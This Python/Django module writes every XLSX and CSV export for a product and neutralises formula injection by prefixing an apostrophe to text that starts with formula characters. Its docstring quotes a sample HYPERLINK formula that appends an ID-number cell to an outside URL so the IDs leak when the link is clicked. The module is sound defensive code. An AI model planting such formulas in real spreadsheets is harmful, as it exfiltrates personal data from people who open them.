"""The one writer of every spreadsheet (XLSX) and CSV file the product hands out.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is taken for a formula by Excel, WPS and LibreOffice (CSV/formula
injection): a note such as ``=HYPERLINK("http://…"&D2,"详情")`` beside a column
of ID numbers would send them away when clicked. Every text value written here
is passed through :func:`neutralise`, which puts an apostrophe in front of such
text (OWASP's advice): the cell shows the text as written, with a leading
quote, and is never evaluated. Numbers, dates and booleans are written as they
are (a negative number is a number, not text).

So no module outside this one creates an openpyxl ``Workbook`` or a ``csv``
writer (``core/tests/test_exports.py`` parses every module to keep it so); an
export builds its file with :class:`Workbook` / :func:`xlsx` or :func:`csv_bytes`
and hands it out with :func:`attachment`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass

from django.http import HttpResponse
from django.utils.functional import Promise
from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"

# What a spreadsheet program may read as the start of a formula (OWASP's list), and the full-width
# forms a Chinese input method types for the same keys.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_BAD_TITLE = re.compile(r"[\[\]:*?/\\]")
_BOLD = Font(bold=True)


def neutralise(value):
    """``value`` as it may go into a cell: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@dataclass(frozen=True)
class Cell:
    """A value with a style: ``Cell(0.95, number_format="0.0%")``, ``Cell(_("total"), bold=True)``."""

    value: object
    bold: bool = False
    number_format: str | None = None


def sheet_title(text) -> str:
    """A valid sheet name (at most 31 characters, none of ``[]:*?/\\``)."""
    return _BAD_TITLE.sub(" ", str(text))[:31] or "Sheet"


class Sheet:
    def __init__(self, sheet):
        self._sheet = sheet

    def append(self, values: Iterable = ()) -> None:
        """One row; plain values, or :class:`Cell` for a styled one."""
        row = []
        for value in values:
            if isinstance(value, Cell):
                cell = WriteOnlyCell(self._sheet, value=neutralise(value.value))
                if value.bold:
                    cell.font = _BOLD
                if value.number_format:
                    cell.number_format = value.number_format
                row.append(cell)
            else:
                row.append(neutralise(value))
        self._sheet.append(row)

    def columns(self, widths: Iterable[float], *, text: bool = False) -> None:
        """Column widths (and, with ``text``, the text format "@"); before the first row."""
        for index, width in enumerate(widths, start=1):
            dimension = self._sheet.column_dimensions[get_column_letter(index)]
            dimension.width = width
            if text:
                dimension.number_format = "@"


class Workbook:
    """A workbook streamed row by row (openpyxl's write-only mode: flat memory for large exports)."""

    def __init__(self):
        self._book = _OpenpyxlWorkbook(write_only=True)

    def sheet(self, title) -> Sheet:
        return Sheet(self._book.create_sheet(sheet_title(title)))

    def save(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()


def xlsx(title, headers: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A single-sheet workbook: a bold header row, then ``rows``."""
    book = Workbook()
    sheet = book.sheet(title)
    sheet.append(Cell(header, bold=True) for header in headers)
    for row in rows:
        sheet.append(row)
    return book.save()


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """Rows as CSV in UTF-8 with a byte-order mark (so that Excel reads the Chinese text)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def attachment(content: bytes, filename: str, *, private: bool = True) -> HttpResponse:
    """``content`` as a download named ``filename`` (its extension gives the type); not cached when private."""
    content_type = CSV_TYPE if filename.endswith(".csv") else XLSX_TYPE
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if private:
        response["Cache-Control"] = "no-store"
    return response
